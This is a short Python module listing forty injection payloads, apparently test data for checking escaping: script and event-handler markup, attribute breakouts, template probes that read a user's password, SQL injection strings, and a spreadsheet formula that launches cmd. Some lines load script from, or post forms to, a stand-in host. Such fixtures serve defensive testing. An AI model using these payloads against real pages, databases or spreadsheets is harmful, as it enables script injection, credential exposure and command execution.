"""Forty texts that would do harm where a page, a template, a query or a spreadsheet took them for its own."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(2)</script>",
    "</title><script src=//x.example></script>",
    "<ScRiPt >alert(3)</sCrIpT>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<body onload=alert(7)>",
    "<iframe src=javascript:alert(8)>",
    "<a href=javascript:alert(9)>x</a>",
    "<form action=//x.example><input name=q>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//x.example>",
    "<math><mtext></mtext></math>",
    "<!--<img src=x>-->",
    "<details open ontoggle=alert(10)>",
    "<template><b>x</b></template>",
    "<button hx-get=/x hx-trigger=load>",
)
OUT_OF_ATTRIBUTES = (
    '" onmouseover="alert(11)',
    "' onfocus='alert(12)' autofocus='",
    '"><u>x</u>',
    "'><i>x</i>",
    "` onclick=alert(13) `",
    '" style="position:fixed',
    "javascript:alert(14)",
    "data:text/html,<b>x</b>",
    "&lt;s&gt;x&lt;/s&gt;",
    "&#60;em&#62;x",
)
TEMPLATES = (
    "{{ 'zz'|add:'qq9vv' }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${'zz'+'qq9vv'}",
    "#{'zz'+'qq9vv'}",
)
QUERIES_AND_SHEETS = ("'; DROP TABLE x;--", "' OR '1'='1", "=cmd|'/c x'!A1", "@SUM(1+1)", "+1-1")
PAYLOADS = (*MARKUP, *OUT_OF_ATTRIBUTES, *TEMPLATES, *QUERIES_AND_SHEETS)
# What a template or an expression would make of the payloads above.
WORKED_OUT = ("zzqq9vv", "md5$", "argon2")


def packed(start: int, longest: int) -> str:
    """As many payloads as a field takes, from one of them on."""
    text = ""
    for number in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + number) % len(PAYLOADS)]
        if len(text) + len(payload) + 1 > longest:
            break
        text += payload + " "
    return text.strip() or PAYLOADS[-1]
